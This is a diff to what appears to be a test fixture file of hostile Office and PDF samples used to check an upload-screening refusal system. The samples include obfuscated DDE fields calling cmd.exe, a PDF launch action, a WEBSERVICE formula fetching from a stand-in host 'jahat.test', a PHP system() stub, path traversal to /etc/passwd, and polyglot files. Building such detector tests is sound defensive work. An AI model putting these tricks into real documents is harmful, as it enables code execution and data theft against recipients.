@@ -9,8 +9,6 @@ import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
 
-from pypdf import PdfReader, PdfWriter
-
 from coordinator.evidence.rules import OLE, Refusal
 from tests.evidence import making
 from tests.evidence.making import encrypted_zip, jpeg, part, pdf, picture, repacked, sheet, word
@@ -95,11 +93,12 @@ def programs() -> Iterator[Hostile]:
     yield Hostile("tipe makro.docx", repacked(word(), {"[Content_Types].xml": macro_type}), no)
     yield Hostile("excel4.xlsx", repacked(sheet(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), no)
     yield Hostile("activex.docx", repacked(word(), {"word/activeX/activeX1.xml": b"<x/>"}), no)
-    yield Hostile("ole.docx", repacked(word(), {"word/embeddings/oleObject1.bin": OLE}), no)
+    part_ = Refusal.PART
+    yield Hostile("ole.docx", repacked(word(), {"word/embeddings/oleObject1.bin": OLE}), part_)
     yield Hostile("program.docx", repacked(word(), {"word/setup.exe": b"MZ"}), no)
-    yield Hostile("asing.docx", repacked(word(), {"word/apa.saja": b"?"}), no)
+    yield Hostile("asing.docx", repacked(word(), {"word/apa.saja": b"?"}), part_)
     dde = b'<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'
-    yield Hostile("dde.docx", repacked(word(), {"word/document.xml": dde}), no)
+    yield Hostile("dde.docx", repacked(word(), {"word/document.xml": dde}), Refusal.COMMAND)
     svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
     yield Hostile("svg.docx", repacked(word(), {"word/media/a.svg": svg}), no)
     yield Hostile(
@@ -116,7 +115,7 @@ def programs() -> Iterator[Hostile]:
     yield Hostile("tersamar.pdf", pdf("Rapat.", root="/OpenAction 50 0 R", objects=hidden), no)
     launch = "/OpenAction << /S /Launch /F (cmd.exe) >>"
     yield Hostile("jalankan.pdf", pdf("Rapat.", root=launch), no)
-    yield Hostile("xfa.pdf", pdf("Rapat.", root="/AcroForm << /XFA (x) /Fields [] >>"), no)
+    yield Hostile("xfa.pdf", pdf("Rapat.", root="/AcroForm << /XFA (x) /Fields [] >>"), part_)
     yield Hostile("eicar.pdf", EICAR, no)
     yield Hostile("eicar.docx", repacked(word(), {"word/embeddings/a.xml": EICAR}), no)
     attached = {
@@ -153,21 +152,25 @@ def _related(relation: bytes) -> bytes:
 
 def spellings() -> Iterator[Hostile]:
     """What runs or fetches, in spellings of XML that a pattern does not expect."""
-    no = Refusal.PROGRAM
+    no, command = Refusal.PROGRAM, Refusal.COMMAND
     gone = (b"jahat.test", b"jah&#97;t")
-    yield Hostile("dde terbelah.docx", _fields(BEGIN, RUN % b"DD", RUN % b"EAUTO cmd", END), no)
-    yield Hostile("dde tersandi.docx", _fields(BEGIN, RUN % b"DD&#69;AUTO cmd", END), no)
-    yield Hostile("dde tanpa batas.docx", _fields(RUN % b"D<![CDATA[D]]>E ", RUN % b"cmd"), no)
+    yield Hostile(
+        "dde terbelah.docx", _fields(BEGIN, RUN % b"DD", RUN % b"EAUTO cmd", END), command
+    )
+    yield Hostile("dde tersandi.docx", _fields(BEGIN, RUN % b"DD&#69;AUTO cmd", END), command)
+    yield Hostile("dde tanpa batas.docx", _fields(RUN % b"D<![CDATA[D]]>E ", RUN % b"cmd"), command)
     simple = b"<w:fldSimple w:instr = ' \"DD&#x45;\" cmd'/>"
-    yield Hostile("dde sederhana.docx", _fields(simple), no)
+    yield Hostile("dde sederhana.docx", _fields(simple), command)
     nested = (BEGIN, BEGIN, RUN % b"QUOTE 68 68 69", SEPARATE, END, RUN % b" cmd", END)
-    yield Hostile("dde tersusun.docx", _fields(*nested), no)
+    yield Hostile("dde tersusun.docx", _fields(*nested), command)
     half = (BEGIN, RUN % b" D", BEGIN, RUN % b"QUOTE 68 69", SEPARATE, END, RUN % b" cmd", END)
-    yield Hostile("dde setengah.docx", _fields(*half), no)
+    yield Hostile("dde setengah.docx", _fields(*half), command)
     link = b"<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd'></x:ddeLink></x:externalLink>"
-    yield Hostile("dde.xlsx", repacked(sheet(), {"xl/externalLinks/externalLink1.xml": link}), no)
+    yield Hostile(
+        "dde.xlsx", repacked(sheet(), {"xl/externalLinks/externalLink1.xml": link}), command
+    )
     fetch = '=WEBSERVICE("http://jahat.test/")'
-    yield Hostile("panggil.xlsx", sheet(lambda book: book.active.append([fetch])), no)
+    yield Hostile("panggil.xlsx", sheet(lambda book: book.active.append([fetch])), command)
     macro = part(word(), "[Content_Types].xml").replace(
         b"wordprocessingml.document.main", b"ms-word.document.macro&#69;nabled.main"
     )
@@ -279,15 +282,112 @@ def broken() -> Iterator[Hostile]:
     yield Hostile("mutlak.xlsx", repacked(sheet(), {"/etc/passwd": b"x"}), cut)
 
 
+def doors() -> Iterator[Hostile]:
+    """What might slip in with files as other programs write them: rubbish around a PDF, an
+    owner's password, parts under other names, pictures by their bytes."""
+    rooted = "/OpenAction " + JS
+    yield Hostile("zip dahulu.pdf", _zip({"a.class": b"x"}) + pdf("Rapat."), Refusal.TYPE)
+    bom = b"\xef\xbb\xbf"
+    yield Hostile("tanda lalu zip.pdf", bom + _zip({"a": b"x"}) + pdf("Rapat."), Refusal.TYPE)
+    yield Hostile("kepala lalu zip.pdf", b"x" * 9 + _zip({"a": b"x"}) + pdf("R."), Refusal.TYPE)
+    yield Hostile("html dahulu.pdf", HTML + pdf("Rapat."), Refusal.TYPE)
+    yield Hostile("php dahulu.pdf", b"\n<?php system('x'); ?>" + pdf("Rapat."), Refusal.TYPE)
+    yield Hostile("exe dahulu.pdf", b"MZ\x90\x00" + b"\x00" * 60 + pdf("Rapat."), Refusal.TYPE)
+    yield Hostile("terlalu jauh.pdf", b"x" * 1024 + pdf("Rapat."), Refusal.TYPE)
+    yield Hostile(
+        "skrip di balik kepala.pdf", b"GET /x\r\n" + pdf("R.", root=rooted), Refusal.PROGRAM
+    )
+    garbage = b"halo" * 9
+    yield Hostile("kepala.pdf", garbage + pdf("Rapat."), None, (garbage,))
+    behind = pdf("Rapat.") + b"\x00" * 9000 + _zip({"a.class": b"isi-kelas"})
+    yield Hostile("zip di balik nol.pdf", behind, Refusal.DAMAGED)
+    much = pdf("Rapat.") + b"\x00" * 9000 + b"isi-lain " * 400
+    yield Hostile("banyak di balik nol.pdf", much, Refusal.DAMAGED)
+    for algorithm in ("RC4-40", "AES-128", "AES-256"):
+        script = making.locked(pdf("R.", root=rooted), opens_with="", algorithm=algorithm)
+        yield Hostile(f"skrip tersandi {algorithm}.pdf", script, Refusal.PROGRAM)
+        numbered = making.locked(pdf(making.NIK), opens_with="", algorithm=algorithm)
+        yield Hostile(f"nik tersandi {algorithm}.pdf", numbered, Refusal.IDENTITY)
+        shut = making.locked(pdf("R."), opens_with="rahasia", algorithm=algorithm)
+        yield Hostile(f"sandi {algorithm}.pdf", shut, Refusal.PASSWORD)
+    by_certificate = pdf("x", trailer="/Encrypt << /Filter /Adobe.PubSec /V 4 >>")
+    shut = making.locked(pdf("R."), opens_with="rahasia").replace(b"xref\n0 ", b"xrff\n0 ")
+    yield Hostile("sandi tanpa daftar.pdf", shut, Refusal.PASSWORD)
+    yield Hostile("sertifikat.pdf", by_certificate, Refusal.PASSWORD)
+    lost = pdf("R.", root=rooted).replace(b"xref\n0 1", b"xrff\n0 1")
+    yield Hostile("skrip tanpa daftar.pdf", lost, Refusal.PROGRAM)
+    yield from _odd_packages()
+
+
+def _main_at(target: bytes, more: bytes = b"") -> bytes:
+    """A DOCX whose package says that its document is at `target`."""
+    relation = b'<Relationship Id="r1" Type="%sofficeDocument" Target="%s" %s/>'
+    return repacked(word(), {"_rels/.rels": RELATIONS % (relation % (KIND, target, more))})
+
+
+def _odd_packages() -> Iterator[Hostile]:
+    cut, program = Refusal.DAMAGED, Refusal.PROGRAM
+    yield Hostile("utama di luar.docx", _main_at(b"../../etc/passwd"), cut)
+    yield Hostile("utama di luar, garis balik.docx", _main_at(b"..\\..\\x"), cut)
+    yield Hostile("utama tidak ada.docx", _main_at(b"word/hilang.xml"), cut)
+    away = b'TargetMode="External"'
+    yield Hostile("utama jauh.docx", _main_at(b"http://jahat.test/d.xml", away), cut)
+    yield Hostile("utama jauh, setempat.docx", _main_at(b"word/document.xml", away), cut)
+    yield Hostile("utama bersama.docx", _main_at(b"\\\\jahat.test\\d.xml"), cut)
+    second = b'<Relationship Id="r2" Type="%sofficeDocument" Target="word/styles.xml"/>' % KIND
+    first = b'<Relationship Id="r1" Type="%sofficeDocument" Target="word/document.xml"/>' % KIND
+    both = repacked(word(), {"_rels/.rels": RELATIONS % (first + second)})
+    yield Hostile("dua utama.docx", both, cut)
+    types = part(word(), "[Content_Types].xml")
+    sheet_type = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    more = b'<Override PartName="/xl/workbook.xml" ContentType="%s"/></Types>' % sheet_type
+    twofold = {
+        "[Content_Types].xml": types.replace(b"</Types>", more),
+        "xl/workbook.xml": part(sheet(), "xl/workbook.xml"),
+    }
+    yield Hostile("dokumen dan buku kerja.docx", repacked(word(), twofold), cut)
+    yield Hostile("naik.docx", repacked(word(), {"word\\..\\..\\x.xml": b"<x/>"}), cut)
+    yield Hostile("naik tersandi.docx", repacked(word(), {"word/%2e%2e/x.xml": b"<x/>"}), cut)
+    yield Hostile("mutlak.docx", repacked(word(), {"\\windows\\x.xml": b"<x/>"}), cut)
+    yield Hostile("kembar.docx", repacked(word(), {"word\\document.xml": b"<x/>"}), cut)
+    yield Hostile("kembar kapital.docx", repacked(word(), {"Word\\Document.XML": b"<x/>"}), cut)
+    yield Hostile(
+        "makro, garis balik.docx", repacked(word(), {"word\\vbaProject.bin": b"x"}), program
+    )
+    macro = b'<Relationship Id="r9" Type="http://x/vbaProject" Target="fonts/a.odttf"/>'
+    yield Hostile("makro sebagai huruf.docx", _related(macro), program)
+    up = b'<Relationship Id="r9" Type="%simage" Target="..\\..\\..\\jahat.png"/>' % KIND
+    yield Hostile("gambar di luar.docx", _related(up), None, (b"jahat.png",))
+    yield Hostile(
+        "exe sebagai gambar.docx", repacked(word(), {"word/media/a.exe": jpeg()}), program
+    )
+    tmp = repacked(word(), {"word/media/a.tmp": b"MZ\x90\x00" + b"\x00" * 90})
+    yield Hostile("program sementara.docx", tmp, Refusal.PART)
+    ole = repacked(word(), {"word/media/a.bin": OLE + b"\x00" * 90})
+    yield Hostile("ole sebagai gambar.docx", ole, Refusal.PART)
+    hidden = picture("WEBP") + HTML
+    yield Hostile(
+        "webp dan html.docx", repacked(word(), {"word/media/a.tmp": hidden}), None, (b"<script",)
+    )
+    inside = repacked(word(), {"word/embeddings/a.docx": _main_at(b"../x.xml")})
+    yield Hostile("utama di luar, di dalam.docx", inside, Refusal.PART)
+    script = repacked(
+        word(), {"word/embeddings/a.xlsx": repacked(sheet(), {"xl/vbaProject.bin": b"x"})}
+    )
+    yield Hostile("makro di dalam.docx", script, program)
+    numbers = making.renamed(
+        sheet(lambda book: book.active.append([int(digit) for digit in making.NIK])),
+        lambda name: name.replace("worksheets/sheet1.xml", "data/satu.xml"),
+        lambda data: data.replace(b"worksheets/sheet1.xml", b"data/satu.xml"),
+    )
+    yield Hostile("lembar dengan nama lain.xlsx", numbers, Refusal.IDENTITY)
+
+
 def locked_pdf() -> bytes:
-    """A PDF with a password, as pypdf writes it."""
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("Rapat."))))
-    writer.encrypt("rahasia", algorithm="RC4-128")
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
+    """A PDF with a password."""
+    return making.locked(pdf("Rapat."), opens_with="rahasia", algorithm="RC4-128")
 
 
 def everything() -> list[Hostile]:
     """All of them."""
-    return [*programs(), *spellings(), *disguises(), *bombs(), *broken()]
+    return [*programs(), *spellings(), *disguises(), *bombs(), *broken(), *doors()]
